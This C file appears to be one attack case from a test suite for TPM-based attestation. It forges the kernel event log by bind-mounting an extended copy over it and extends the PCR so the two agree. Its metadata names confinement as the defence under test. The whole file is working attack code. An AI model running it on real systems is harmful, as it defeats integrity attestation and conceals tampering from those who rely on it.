// SPDX-License-Identifier: Apache-2.0
/*
 * Forges a record where the log is the kernel's: mounts a longer log over it, and
 * extends the PCR so that both agree.
 *
 * attack: forged_log_mounted
 * class: tpm
 * when: idle
 * judge: record
 * unprotected: module
 * spoils: yes
 * defence: confinement
 * why: whoever can mount shows the trusted side another log; the REE's mounts are its own, and it has no TPM
 */
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

#include "event.h"
#include "report.h"
#include "tpm.h"

#define FORGED "/tmp/log"

static int copy(int from, int to)
{
	char buf[4096];
	ssize_t got;

	while ((got = read(from, buf, sizeof(buf))) > 0)
		if (write(to, buf, (size_t)got) != got)
			return -errno;
	return got < 0 ? -errno : 0;
}

static int forge(const struct event *event)
{
	int log = open(EVENT_KERNEL_LOG, O_RDONLY | O_CLOEXEC);
	int forged = open(FORGED, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	int ret;

	if (log < 0 || forged < 0)
		return -errno;
	ret = copy(log, forged);
	if (!ret && write(forged, event, sizeof(*event)) != sizeof(*event))
		ret = -errno;
	close(forged);
	close(log);
	return ret;
}

int main(void)
{
	struct event event;
	int ret;

	attack_init();
	event_forge(&event);
	attack_ready();
	ret = forge(&event);
	if (ret)
		attack_note("the log cannot be read: %s", strerror(-ret));
	if (mount(FORGED, EVENT_KERNEL_LOG, NULL, MS_BIND, NULL))
		attack_failed("mount: %s", strerror(errno));
	ret = tpm_extend(event.pcr, event.digest);
	if (ret)
		attack_failed("the PCR cannot be extended: error %d", ret);
	attack_succeeded("the log is forged, and the PCR goes with it");
}
